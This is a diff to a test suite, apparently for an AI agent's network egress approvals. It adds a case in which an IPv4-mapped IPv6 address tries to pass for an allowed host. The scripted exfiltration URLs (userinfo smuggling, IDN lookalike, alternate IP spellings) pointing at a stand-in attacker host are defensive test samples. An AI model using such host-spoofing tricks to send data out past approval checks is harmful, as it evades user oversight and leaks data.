@@ -101,9 +101,10 @@ describe('egress where nobody can answer (heartbeat, cron, subagents, agent -m w
     expect(web.hitsOn(ATTACKER)).toEqual([]);
   });
 
-  it('does not let other spellings of the allowed host smuggle in another one', async () => {
+  it('does not let other spellings (userinfo, IDN lookalike, port, IPv6-mapped IP) pass for an allowed host', async () => {
     const core = openCore();
     core.approvals.allowHost(`${ALLOWED}:${web.port}`);
+    core.approvals.allowHost(`127.0.0.1:${web.port}`);
     scriptExfiltration([
       // userinfo: the host is the attacker's; refused before anyone is asked
       `http://${ALLOWED}:${web.port}@${ATTACKER}:${web.port}/?d=1`,
@@ -113,12 +114,15 @@ describe('egress where nobody can answer (heartbeat, cron, subagents, agent -m w
       `http://${ALLOWED}/?d=3`,
       // upper case and a trailing dot are the same host: allowed, no prompt
       `http://ALLOWED.EXAMPLE.:${web.port}/same`,
+      // another spelling of an allowed IP (IPv4-mapped IPv6 literal) is not covered by the IPv4 rule
+      `http://[::ffff:127.0.0.1]:${web.port}/?d=4`,
     ]);
     await core.sessions.run({ sessionKey: 'cli:script', text: 'go', interactive: false });
     expect(toolResult(t.llm.requests, 'fetch0')).toBe('Error: URLs with user names or passwords are not fetched.');
     expect(toolResult(t.llm.requests, 'fetch1')).toMatch(/^Error: web_fetch to xn--llowed-2nf\.example:\d+ needs the user's approval/);
     expect(toolResult(t.llm.requests, 'fetch2')).toMatch(/^Error: web_fetch to allowed\.example needs the user's approval/);
     expect(toolResult(t.llm.requests, 'fetch3')).toContain(`page /same of ${ALLOWED}:${web.port}`);
+    expect(toolResult(t.llm.requests, 'fetch4')).toMatch(/^Error: web_fetch to \[::ffff:7f00:1\]:\d+ needs the user's approval/);
     expect(web.hits.map((h) => h.url)).toEqual(['/same']);
   });
 
